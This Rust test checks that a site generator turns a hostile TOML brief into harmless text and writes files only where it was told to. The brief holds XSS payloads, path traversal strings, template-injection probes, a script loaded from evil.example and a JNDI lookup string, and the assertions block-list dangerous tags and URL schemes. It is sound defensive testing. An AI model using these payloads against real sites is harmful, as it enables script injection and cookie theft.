//! Briefs of people who mean harm: what they wrote comes out as text, in the folder that was named.

use std::fs;
use std::path::Path;

use serde_json::Value;

use super::{Bench, contents};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_brief_comes_out_as_harmless_text() {
    let bench = Bench::new();
    let brief = r#"
        name = "../../etc/passwd <script>alert(1)</script>"
        description = "{{7*7}} ${7*7} <%= 7*7 %>"
        [brief]
        business_name = "<img src=x onerror=alert(1)> & ../..\\..\\x"
        summary = "</style><script>alert(document.cookie)</script> [click](javascript:alert(1)) {{constructor}} <!--"
        business_type = "../../../../tmp/pwned \"><svg onload=alert(1)>"
        objectives = ["<iframe src='javascript:alert(1)'>", "[sell](data:text/html,<script>alert(1)</script>)"]
        facts = [
          "Visit javascript:alert(1) or JaVaScRiPt:alert(2)",
          "<b onmouseover=alert(1)>Open</b> Monday to Friday 9:00 to 17:00",
          "\"><script src=//evil.example/x.js></script> costs £5.00",
          "Phone +44 131 555 0101\r\n<script>",
          "hello@<script>.example",
          "${jndi:ldap://evil.example/a} ]]> --> {% raw %}",
        ]
    "#;
    let file = bench.file("brief.toml", brief);
    let run = bench.run(&[&file, "--out", "site"]).await;
    assert_eq!(run.code, Some(0), "{}", run.err);
    let written = contents(&bench.path("site"));
    let site: Value = serde_json::from_str(&written["site.json"]).unwrap();
    assert_eq!(
        site["name"], "../../etc/passwd <script>alert(1)</script>",
        "text stays as it is where it is only data"
    );
    for name in written.keys() {
        assert!(
            name.bytes()
                .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"-.".contains(&byte)),
            "{name}"
        );
    }
    for (name, document) in written.iter().filter(|(name, _)| name.ends_with(".html")) {
        for tag in tags(document) {
            let lower = tag.to_lowercase();
            let element = lower.trim_start_matches('/').split([' ', '>', '/']).next().unwrap();
            assert!(
                !["script", "iframe", "object", "embed", "base", "form"].contains(&element),
                "{name}: <{tag}"
            );
            let attributes = lower.split_once(' ').map_or("", |(_, rest)| rest);
            assert!(!outside_quotes(attributes).contains(" on"), "{name}: <{tag}");
            for bad in [
                "href=\"javascript:",
                "src=\"javascript:",
                "href=\"data:text",
                "src=\"x\"",
                "href=\"vbscript:",
            ] {
                assert!(!lower.contains(bad), "{name}: <{tag}");
            }
        }
    }
    // Nothing was written anywhere else.
    let mut left: Vec<String> = contents_names(bench.folder.path());
    left.sort();
    assert_eq!(left, ["brief.toml", "site", "tmp"]);
    bench.check_tidy();
}

fn contents_names(folder: &Path) -> Vec<String> {
    fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect()
}

/// What stands between `<` and `>`; quotes may hold either.
fn tags(document: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = document;
    while let Some(open) = rest.find('<') {
        rest = &rest[open + 1..];
        let mut is_quoted = false;
        let end = rest.find(|c: char| {
            is_quoted ^= c == '"';
            c == '>' && !is_quoted
        });
        let end = end.expect("every tag ends");
        tags.push(rest[..end].to_string());
        rest = &rest[end..];
    }
    tags
}

/// An element's attributes without their values, a space before each.
fn outside_quotes(attributes: &str) -> String {
    let names: Vec<&str> = attributes.split('"').step_by(2).collect();
    format!(" {}", names.join(""))
}
